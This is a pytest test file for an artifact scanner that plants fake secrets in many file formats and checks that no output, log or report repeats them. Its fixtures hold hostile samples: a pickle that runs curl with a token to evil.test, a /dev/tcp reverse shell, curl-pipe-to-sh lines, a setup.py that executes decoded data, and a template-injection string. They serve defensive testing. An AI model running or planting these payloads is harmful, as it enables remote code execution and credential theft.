"""Secrets are planted in everything that is opened and parsed, and no output of a run holds one of them in clear.

Names are told, of members, packages and what a pickle imports: they say where something is.
"""

from __future__ import annotations

import base64
import functools
import gzip
import io
import json
import logging
import pickle
import random
import re
import tarfile
import zipfile
from collections.abc import Iterator
from importlib import resources
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from customhouse import web
from customhouse.app import App
from customhouse.commands import application
from customhouse.notifiers import open_notifier
from customhouse.policy.load import Loaded, load
from customhouse.ports import Store
from customhouse.settings import Settings
from customhouse.stores.memory import MemoryStore
from tests.events import shapes
from tests.functions.test_container import EVERYONE, ask
from tests.scanners.secret_samples import SHAPES, fill

_RUN = re.compile(r"[A-Za-z0-9+/_-]{12,}")
_SEED = random.Random(20261124)
TEXTS = [fill(shape, _SEED) for shape in SHAPES.values()]
"""One secret of every family that there is a rule for, with what stands around it."""

VALUES = {
    value
    for text, shape in zip(TEXTS, SHAPES.values(), strict=True)
    for value in _RUN.findall(text)
    if value not in shape and re.search(r"\d", value)
}
"""The random parts of them: what must not be said again."""

TOKEN = "ghp_" + "".join(_SEED.choices("abcdefghijkmnpqrstuvwxyzABCDEFGH23456789", k=36))
"""The one that stands where parsers meet it: in URLs, in commands, in what is broken."""

PLANTED = sorted({*VALUES, TOKEN})


class Command:
    """A pickle that runs a command which holds a token."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (f"__import__('os').system('curl -H Authorization:{TOKEN} evil.test')",)


def zipped(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.comment = TOKEN.encode()
        for name, data in members.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def tarred(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        entry = tarfile.TarInfo(name)
        entry.size = len(data)
        entry.pax_headers = {"comment": TOKEN}
        archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


URL, BARE = (f"https://{user}@git.acme.test/team/lib.git" for user in (f"build:{TOKEN}", TOKEN))
ALL = "\n".join(TEXTS)
FILES: dict[str, bytes] = {
    "all.env": ALL.encode(),
    "wide.txt": ALL.encode("utf-16"),
    "encoded.txt": b"\n".join(base64.b64encode(text.encode()) for text in TEXTS),
    "data.bin": b"\0\1\2" + ALL.encode() + bytes(range(256)),
    "inner.zip": zipped(deep__all=ALL.encode(), other=zipped(again=ALL.encode())),
    "inner.tgz": tarred("all.env", ALL.encode()),
    "cut.gz": gzip.compress(ALL.encode())[:-20],
    "cut.zip": zipped(all=ALL.encode())[:-30],
    "a.pkl": pickle.dumps(Command()),
    "shell.sh": f"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1 # {TOKEN}\ncurl {URL} | sh\n".encode(),
    "setup.py": f"import os\nos.system('curl {URL} | sh')\nexec(__import__('base64').b64decode('{TOKEN}'))\n".encode(),
    "requirements.txt": f"--index-url {URL}\nlib @ git+{URL}@v1\n{URL}#egg=other\nx=={TOKEN}\n-e {TOKEN} ==\n".encode(),
    "package.json": json.dumps(
        {"name": "a", "version": "1.0.0", "dependencies": {"b": f"git+{URL}#v1", "c": BARE}}
    ).encode(),
    "package-lock.json": json.dumps(
        {
            "lockfileVersion": 3,
            "packages": {
                "node_modules/b": {"version": "1.0.0", "resolved": URL},
                "node_modules/c": {"version": URL},
                "node_modules/d": {"version": f"git+{BARE}#v1"},
            },
        }
    ).encode(),
    "yarn.lock": f'"b@git+{URL}":\n  version "1.0.0"\n  resolved "{URL}#abc"\n'.encode(),
    "pnpm-lock.yaml": f"lockfileVersion: '9.0'\npackages:\n  b@git+{URL}: {{resolution: [{TOKEN}\n".encode(),
    "poetry.lock": (
        f'[[package]]\nname = "b"\nversion = "1"\n[package.source]\ntype = "git"\nurl = "{URL}"\n'
        f'[[package]]\nname = "{TOKEN}\n'
    ).encode(),
    "Pipfile.lock": json.dumps({"default": {"b": {"git": URL, "ref": "v1"}}, "_meta": {"sources": [URL]}}).encode(),
    "Cargo.lock": f'[[package]]\nname = "b"\nversion = "1.0.0"\nsource = "git+{URL}#abc"\n'.encode(),
    "Gemfile.lock": f"GIT\n  remote: {URL}\n  revision: abc\n  specs:\n    b (1.0)\n".encode(),
    "composer.lock": json.dumps(
        {"packages": [{"name": "a/b", "version": "1.0", "source": {"type": "git", "url": URL, "reference": "x"}}]}
    ).encode(),
    "go.mod": f"module a\n\nrequire git.acme.test/b v1.0.0\nreplace x => {URL} v1.0.0\n".encode(),
    "Podfile.lock": f"PODS:\n  - b (1.0)\nEXTERNAL SOURCES:\n  b:\n    :git: {URL}\n".encode(),
    "pom.xml": f"<project><groupId>a</groupId><artifactId>b</artifactId><version>1</version><scm><url>{URL}</url></scm>"
    f"<dependencies><dependency><groupId>{TOKEN}".encode(),
    "METADATA": f"Metadata-Version: 2.1\nName: a\nVersion: 1.0\nHome-page: {URL}\nLicense: {TOKEN}\n".encode(),
    "bom.json": b'{"bomFormat": "CycloneDX", "specVersion": "1.6", "components": [{"name": "' + TOKEN.encode(),
    "config.json": json.dumps({"chat_template": f"{{{{ ''.__class__.__mro__ }}}} {TOKEN}"}).encode(),
    "model.safetensors": b"\x40\0\0\0\0\0\0\0" + json.dumps({"__metadata__": {TOKEN: TOKEN}}).encode().ljust(64),
    "signed.txt": b"hello",
    "signed.txt.sigstore.json": json.dumps(
        {"mediaType": f"application/vnd.dev.sigstore.bundle{TOKEN}", "messageSignature": TOKEN}
    ).encode(),
    "signed.txt.sha256": f"{TOKEN}  signed.txt\n".encode(),
    "signed.txt.provenance": json.dumps({"attestation_bundles": TOKEN}).encode(),
}


@functools.cache
def policy_text() -> str:
    """Everything that is built in, and signatures; JSON is YAML."""
    document = yaml.safe_load(resources.files("customhouse.policy").joinpath("default.yaml").read_text())
    identity = {"issuer": "https://accounts.test", "subject": "*@acme.test"}
    signatures = {"rules": [{"name": "*", "identities": [identity]}]}
    document["scanners"] |= {"licences": {}, "models": {}, "packages": {}, "signatures": signatures}
    return json.dumps(document)


@functools.cache
def policy() -> Loaded:
    return load(policy_text(), "all.yaml")


PARTS = ("intake", "released", "quarantine", "records")


@pytest.fixture(scope="module")
def stores() -> dict[str, Store]:
    return {f"s3://{part}": MemoryStore(f"s3://{part}") for part in PARTS}


def spoken(stores: dict[str, Store]) -> Iterator[str]:
    """All that a run leaves in its stores but the artifacts themselves: records and tags."""
    for store in stores.values():
        for stat in store.list(versions=True):
            yield repr(store.tags(stat.location))
            if store.root == "s3://records":
                with store.read(stat.location) as body:
                    yield b"".join(body).decode()


def leaks(text: str) -> list[str]:
    return [value for value in PLANTED if value in text]


def test_what_is_planted_is_worth_looking_for() -> None:
    assert len(PLANTED) > len(SHAPES) * 0.9
    assert leaks(f"x{TOKEN}y") == [TOKEN]


def test_nothing_a_function_says_holds_a_secret(
    stores: dict[str, Store], caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    caplog.set_level(logging.DEBUG)
    places = {part: f"s3://{part}" for part in PARTS[1:]}
    settings = Settings(**places, intake=("s3://intake",), notify="log:")  # type: ignore[arg-type]  # names of fields
    app = App(settings, policy(), stores.__getitem__, lambda url: open_notifier(url, ""))
    said = []
    for name, data in FILES.items():
        stores["s3://intake"].put(name, data)
        said.append(ask(web.entry(lambda: app, EVERYONE), "POST", shapes.eventbridge(name)).body.decode())
    said += spoken(stores)
    said += [record.getMessage() for record in caplog.records] + [caplog.text, *capfd.readouterr()]
    text = "\n".join(said)
    assert leaks(text) == []
    assert text.count('"rule":"') > len(FILES), "nothing was found: was anything looked at?"
    assert "secrets" in text


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("planted")
    for name, data in FILES.items():
        (folder / name).write_bytes(data)
    return folder


@pytest.mark.parametrize("style", ["json", "sarif", "cyclonedx", "table"])
def test_nothing_the_command_line_prints_holds_a_secret(folder: Path, tmp_path: Path, style: str) -> None:
    (tmp_path / "policy.yaml").write_text(policy_text())
    command = ["scan", "--format", style, "--policy", str(tmp_path / "policy.yaml"), str(folder)]
    done = CliRunner().invoke(application, command)
    assert done.exit_code == 1
    assert leaks(done.output) == []
    assert "all.env" in done.output


def test_no_page_holds_a_secret(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "policy.yaml").write_text(policy_text())
    page = tmp_path / "page.html"
    command = ["report", "-o", str(page), "--policy", str(tmp_path / "policy.yaml"), str(folder)]
    done = CliRunner().invoke(application, command)
    assert done.exit_code == 1
    assert leaks(done.output + page.read_text()) == []
    assert "all.env" in page.read_text()
